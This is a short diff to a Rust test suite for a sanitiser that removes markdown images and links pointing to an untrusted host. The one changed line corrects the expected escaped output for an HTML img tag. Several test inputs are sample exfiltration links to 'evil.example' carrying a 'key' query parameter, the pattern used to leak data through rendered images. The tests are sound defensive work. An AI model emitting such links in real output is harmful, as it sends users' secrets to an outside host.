@@ -267,7 +267,7 @@ mod tests {
             // Images and links.
             ("![a](https://evil.example/?d=key)", "(image from `evil.example` removed)"),
             ("![a][x]\n\n[x]: https://evil.example/k", "(image from `evil.example` removed)\n\n"),
-            ("<img src=\"https://evil.example/k\">", "&lt;img src=\"(link to `evil.example` removed)"),
+            ("<img src=\"https://evil.example/k\">", "&lt;img src=\"(link to `evil.example` removed)\">"),
             ("[here](https://evil.example/?d=key)", "here (link to `evil.example` removed)"),
             ("[here](https://forge.example/a)", "[here](https://forge.example/a)"),
             ("[a](#b) [c](docs/d.md)", "[a](#b) [c](docs/d.md)"),
